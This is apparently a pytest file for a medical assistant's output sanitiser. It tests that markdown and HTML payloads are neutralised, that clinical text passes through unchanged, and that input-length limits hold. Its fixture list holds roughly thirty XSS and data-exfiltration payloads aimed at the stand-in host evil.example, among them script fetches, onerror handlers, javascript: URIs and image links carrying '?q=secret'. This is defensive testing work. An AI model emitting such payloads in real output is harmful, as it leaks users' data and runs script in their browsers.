"""Dead text and input limits."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from assistant.errors import BadInput, TooLong
from assistant.safety.guard import MAX_QUESTION_CHARS, checked_question, dead_text, escape_markdown

LIVE = [
    "![x](https://evil.example/p.png)",
    "[click](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "[a][1]\n\n[1]: https://evil.example/a",
    "<img src=x onerror=alert(1)>",
    "<script>fetch('https://evil.example')</script>",
    "<a href='https://evil.example'>here</a>",
    "&lt;img src=https://evil.example/x.png&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "https://evil.example/path",
    "see www.evil.example now",
    "<https://evil.example>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "java\u200bscript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "![a](<https://evil.example/a b.png>)",
    "![a](//evil.example/p.png)",
    "[![x](https://evil.example/i.png)](https://evil.example)",
    "<iframe src=//evil.example>",
    "<svg/onload=alert(1)>",
    "<style>@import 'https://evil.example'</style>",
    "<<img src=x>img src=https://evil.example>",
    "&amp;lt;img src=https://evil.example&amp;gt;",
    "!&#91;x&#93;&#40;https://evil.example&#41;",
    "<form action=https://evil.example><input></form>",
    "[x]( https://evil.example 'title')",
    "<!-- hidden --><b>bold</b>",
    "mailto:a@evil.example",
    "vbscript:msgbox(1)",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
]


@pytest.mark.parametrize("payload", LIVE)
def test_nothing_live_is_left_of_a_payload(payload: str) -> None:
    drawn = MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(
        dead_text(f"Take 5 mg. {payload} Then rest.")
    )
    assert not re.search(r"<(?!/?(?:p|em|strong|code|pre|ul|ol|li|br|h\d|blockquote)\b)", drawn), drawn
    assert not re.search(r"(?:https?|data|javascript|vbscript|mailto):", drawn, re.I), drawn


@pytest.mark.parametrize(
    "text",
    [
        "Give 5 mg if eGFR <30 mL/min and potassium > 5.5.",
        "**Bold**, *italic*, and a list:\n- one\n- two",
        "| drug | dose |\n|---|---|\n| metformin | 500 mg |",
        "若 eGFR<30，停用二甲双胍。",
        "Ratio 3:1, time 10:30, BP 120/80 (normal).",
        "Target: HbA1c < 53 mmol/mol [1].",
    ],
)
def test_clinical_text_and_plain_markdown_pass_unchanged(text: str) -> None:
    assert dead_text(text) == text


def test_the_label_of_a_link_stays_readable() -> None:
    assert dead_text("See [the guideline](https://evil.example).") == "See the guideline."


def test_dead_text_is_stable_when_applied_twice() -> None:
    for payload in LIVE:
        once = dead_text(payload)
        assert dead_text(once) == once


@pytest.mark.parametrize(
    "typed",
    ["*a* _b_ `c`", "# title", "[x](http://e.example)", "1. <b>x</b> & y", "![i](x)", "$x^2$", ":red[hi]"],
)
def test_escaped_markdown_is_drawn_letter_by_letter(typed: str) -> None:
    tokens = MarkdownIt().parseInline(escape_markdown(typed))[0].children or []
    assert {t.type for t in tokens} <= {"text", "text_special"}
    assert "".join(t.content for t in tokens) == typed


def test_a_question_over_the_limit_is_refused_with_the_remedy() -> None:
    with pytest.raises(TooLong, match=r"8,001 characters; at most 8,000 .* attach"):
        checked_question("a" * (MAX_QUESTION_CHARS + 1))
    assert checked_question("a" * MAX_QUESTION_CHARS)


@pytest.mark.parametrize("text", ["", "   \n", "\x00\x07", "\u200b\u200b"])
def test_a_question_with_nothing_to_read_is_refused(text: str) -> None:
    with pytest.raises(BadInput):
        checked_question(text)


def test_control_characters_leave_and_line_breaks_stay() -> None:
    assert checked_question(" chest\x00 pain\r\nsince\tnoon ") == "chest pain\nsince\tnoon"
